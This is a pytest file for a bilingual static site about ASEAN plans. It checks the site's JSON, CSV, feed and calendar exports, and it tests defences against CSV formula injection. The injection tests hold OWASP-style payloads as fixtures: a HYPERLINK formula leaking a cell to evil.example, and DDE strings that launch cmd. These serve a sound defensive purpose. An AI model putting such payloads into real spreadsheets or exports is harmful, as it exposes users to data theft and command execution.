"""Data for other systems: JSON against its schemas, CSV round trip, feeds, calendar."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import feedparser
import jsonschema
import pytest
from conftest import PROGRESS, SITE_URL, MiniProject
from icalendar import Calendar


def load(path: Path) -> object:
    return json.loads(path.read_text(encoding="utf-8"))


@pytest.mark.site
def test_json_documents_validate_against_their_schemas(built_site: Path) -> None:
    api = built_site / "api/v1"
    plans = load(api / "plans.json")
    jsonschema.validate(plans, load(api / "plans.schema.json"))
    assert [p["id"] for p in plans["plans"]][0] == "bcd-asean-2021-2025"
    assert len(plans["plans"]) == 5
    plan_schema = load(api / "plan.schema.json")
    for entry in plans["plans"]:
        assert entry["data"] == f"{SITE_URL}api/v1/plans/{entry['id']}.json"
        document = load(api / "plans" / f"{entry['id']}.json")
        jsonschema.validate(document, plan_schema)
    national = load(api / "plans/bcd-asean-2021-2025.json")
    assert len(national["plan"]["appendix"]["activities"]) == 65
    assert national["agencies"]["bo-ngoai-giao"]["name"] == {
        "vi": "Bộ Ngoại giao", "en": "Ministry of Foreign Affairs", "vi_source": None}
    lead_ids = {a for act in national["plan"]["appendix"]["activities"] if act["lead"] for a in act["lead"]["agencies"]}
    assert lead_ids <= set(national["agencies"])
    agencies = load(api / "agencies.json")
    jsonschema.validate(agencies, load(api / "agencies.schema.json"))


@pytest.mark.site
def test_activities_csv_round_trips(built_site: Path) -> None:
    raw = (built_site / "api/v1/activities.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 65 + 9
    iv5 = next(r for r in rows if r["plan_id"] == "bcd-asean-2021-2025" and r["activity_id"] == "IV.5")
    assert iv5["timeline_kind"] == "other" and iv5["timeline_vi"] == "Bộ Thông tin và Truyền thông"
    assert "lead" in iv5["not_stated"].split()
    assert iv5["lead_vi"] == ""
    soc = next(r for r in rows if r["plan_id"] == "soc-trang-2022" and r["activity_id"] == "I.1")
    assert soc["timeline_vi"] == "Thường xuyên trong năm 2022"
    assert soc["url_en"] == f"{SITE_URL}en/plans/soc-trang-2022/activities/i-1/"
    # Texts are quoted, the years are numbers: written back the same way, the bytes match.
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writeheader()
    numbers = ("start_year", "end_year")
    writer.writerows({k: int(v) if k in numbers and v else v for k, v in row.items()} for row in rows)
    assert ("\ufeff" + out.getvalue()).encode("utf-8") == raw


@pytest.mark.site
def test_feeds_parse(built_site: Path) -> None:
    for lang in ("vi", "en"):
        feed = feedparser.parse((built_site / lang / "feed.xml").read_bytes())
        assert not feed.bozo, feed.bozo_exception
        assert len(feed.entries) >= 12
        assert feed.entries[0].link.startswith(f"{SITE_URL}{lang}/news/")
        published = [e.published_parsed for e in feed.entries]
        assert published == sorted(published, reverse=True)
        economic = feedparser.parse((built_site / lang / "feeds/pillars/economic.xml").read_bytes())
        assert not economic.bozo and economic.entries
        assert all("economic" in [t.term for t in e.tags] for e in economic.entries)
        unit = feedparser.parse((built_site / lang / "feeds/units/soc-trang.xml").read_bytes())
        assert not unit.bozo and len(unit.entries) >= 1


@pytest.mark.site
def test_calendar_parses(built_site: Path) -> None:
    cal = Calendar.from_ical((built_site / "calendar.ics").read_bytes())
    events = list(cal.walk("VEVENT"))
    summaries = [str(e["SUMMARY"]) for e in events]
    assert any(s.startswith("Ngày ASEAN / ASEAN Day") for s in summaries)
    week = next(e for e in events if str(e["SUMMARY"]).startswith("Tuần ASEAN"))
    assert week["DTSTART"].dt.month == 7 and week["DTSTART"].dt.day == 28
    assert (week["DTEND"].dt - week["DTSTART"].dt).days == 12
    assert all("UID" in e and "DTSTAMP" in e for e in events)
    deadlines = [e for e in events if "Reporting deadline" in str(e["SUMMARY"])]
    assert any(e["DTSTART"].dt.month == 11 and e["DTSTART"].dt.day == 15 for e in deadlines)


# ── CSV formula injection (OWASP): text cells are never formulas ────────────────────
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
PAYLOADS = {
    "plan_title_vi": '=HYPERLINK("https://evil.example/?"&A1,"Bấm")',
    "name_vi": "+cmd|' /C calc'!A0",
    "name_en": "-2+3+cmd|' /C calc'!A0",
    "group_name_vi": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lead_vi": '=1+2";=1+2',  # OWASP's own example
    "timeline_en": "In 2022;=1+2",
}


def _csv_rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


def _csv_project(mini: MiniProject) -> object:
    from site_builder.derive.project import check_project

    plan = "plans/soc-trang-2022.yaml"
    mini.replace(plan, '{vi: "Kế hoạch tuyên truyền, quảng bá ASEAN năm 2022"',
                 "{vi: " + _yaml(PAYLOADS["plan_title_vi"]))
    mini.replace(plan, '{vi: "Tuyên truyền về các sự kiện quan trọng của ASEAN", en: "Communicate about major ASEAN events"}',
                 "{vi: " + _yaml(PAYLOADS["name_vi"]) + ", en: " + _yaml(PAYLOADS["name_en"]) + "}")
    mini.replace(plan, '{vi: "Tuyên truyền thường xuyên"', "{vi: " + _yaml(PAYLOADS["group_name_vi"]))
    mini.replace(plan, 'text: {vi: "Sở Thông tin và Truyền thông"', "text: {vi: " + _yaml(PAYLOADS["lead_vi"]))
    mini.replace(plan, 'en: "Ongoing throughout 2022"', "en: " + _yaml(PAYLOADS["timeline_en"]))
    mini.write("plans/progress/soc-trang-2022-2022.yaml",
               PROGRESS.replace('{vi: "Đã đăng 12 tin", en: "12 news items published"}', '{vi: "=1+1", en: "@A1"}'))
    project, problems = check_project(mini.root)
    assert project is not None, [p.format() for p in problems.errors]
    return project


def test_csv_text_cells_cannot_be_formulas(mini: MiniProject) -> None:
    """Every text cell that starts with = + - @ gets a leading quote; texts are quoted, so
    a semicolon inside one cannot start a new cell; years and percentages stay numbers."""
    from site_builder.core.urls import SiteUrls
    from site_builder.output.exports.api import CSV_COLUMNS, activities_csv

    project = _csv_project(mini)
    raw = activities_csv(project, SiteUrls("https://example.org/"))
    rows = _csv_rows(raw)
    assert rows[0] == CSV_COLUMNS
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    cells = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    for column, payload in PAYLOADS.items():
        expected = payload if column == "timeline_en" else "'" + payload
        assert cells[column] == expected, column
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(tuple(TRIGGERS)), cell
    text = raw.decode("utf-8-sig")
    assert ',"\'=1+2"";=1+2",' in text  # OWASP's escaped form: quoted whole, inner quotes doubled
    assert ',"In 2022;=1+2",' in text
    assert ',2022,2022,' in text  # start_year, end_year: numbers, unquoted


def test_progress_csv_cells_cannot_be_formulas(mini: MiniProject) -> None:
    from site_builder.output.exports.api import progress_csv

    project = _csv_project(mini)
    raw = progress_csv(project)
    rows = _csv_rows(raw)
    header = rows[0]
    assert all(len(row) == len(header) for row in rows)
    done = next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[2] == "I.1")
    assert (done["done_vi"], done["done_en"], done["progress"]) == ("'=1+1", "'@A1", "40")
    line = next(line for line in raw.decode("utf-8-sig").splitlines() if '"I.1"' in line)
    assert line.startswith('"soc-trang-2022",2022,"I.1"')  # the year is a number
    assert ',40,' in line  # and so is the percentage


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_formula_trigger_is_neutralised(mini: MiniProject, trigger: str) -> None:
    """Also characters the models strip today (tab, line breaks): the CSV does not rely on
    the data's validation to be safe, so the texts are put in past it."""
    from site_builder.core.urls import SiteUrls
    from site_builder.derive.project import Project
    from site_builder.model import Text
    from site_builder.output.exports.api import CSV_COLUMNS, activities_csv

    project = _csv_project(mini)
    plan = project.data.plans["soc-trang-2022"]
    payload = trigger + "1+1"
    activity = plan.appendix.activities[1].model_copy(update={"name": Text.model_construct(vi=payload, en=payload)})
    appendix = plan.appendix.model_copy(update={"activities": [plan.appendix.activities[0], activity]})
    project.data.plans["soc-trang-2022"] = plan.model_copy(update={"appendix": appendix})
    project = Project(project.root, project.data, project.content)  # what is derived, from the changed data
    rows = _csv_rows(activities_csv(project, SiteUrls("https://example.org/")))
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    cells = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert cells["name_vi"] == cells["name_en"] == "'" + payload
